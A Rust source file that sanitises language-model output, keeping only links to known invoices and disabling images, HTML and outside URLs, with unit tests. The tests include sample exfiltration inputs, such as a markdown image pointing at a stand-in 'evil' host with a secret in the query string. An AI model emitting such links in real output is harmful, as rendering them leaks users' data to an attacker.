//! What may be shown of a text that a language model wrote: words, lists, and links to invoices that tools named.
use std::collections::BTreeSet;

/// The text without pictures, HTML, and links to anything but these invoices.
pub fn safe(text: &str, invoices: &BTreeSet<i64>) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some(at) = rest.find('[') {
        let (before, link) = rest.split_at(at);
        out.push_str(&harmless(before.strip_suffix('!').unwrap_or(before)));
        match parts(link) {
            Some((label, target, after)) => {
                let id = target.strip_prefix("/invoices/").and_then(|id| id.parse().ok());
                let label = harmless(label);
                match id.filter(|id| invoices.contains(id)) {
                    Some(id) => out.push_str(&format!("[{label}](/invoices/{id})")),
                    None => out.push_str(&label),
                }
                rest = after;
            }
            None => {
                out.push_str("\\[");
                rest = &link[1..];
            }
        }
    }
    out.push_str(&harmless(rest));
    out
}

/// `[label](target)` at the beginning.
fn parts(text: &str) -> Option<(&str, &str, &str)> {
    let (label, rest) = text.strip_prefix('[')?.split_once(']')?;
    let (target, after) = rest.strip_prefix('(')?.split_once(')')?;
    (!label.contains('[')).then_some((label, target.trim(), after))
}

fn harmless(text: &str) -> String {
    let text = text.replace('<', "&lt;").replace("://", ":\u{200b}//").replace("www.", "www\u{200b}.");
    text.replace("![", "[").replace("](", "] (").replace("]:", "] :")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_leads_out_of_the_house() {
        let known = BTreeSet::from([7]);
        assert_eq!(safe("See [INV-7](/invoices/7).", &known), "See [INV-7](/invoices/7).");
        assert_eq!(safe("See [INV-8](/invoices/8).", &known), "See INV-8.");
        assert_eq!(safe("![x](http://evil/?q=secret)", &known), "x");
        assert_eq!(safe("[pay](https://evil)", &known), "pay");
        assert_eq!(safe("<img src=x> http://evil", &known), "&lt;img src=x> http:\u{200b}//evil");
        assert_eq!(safe("[a][b] [", &known), "\\[a]\\[b] \\[");
        assert_eq!(safe("[x]: http://evil", &known), "\\[x] : http:\u{200b}//evil");
    }
}
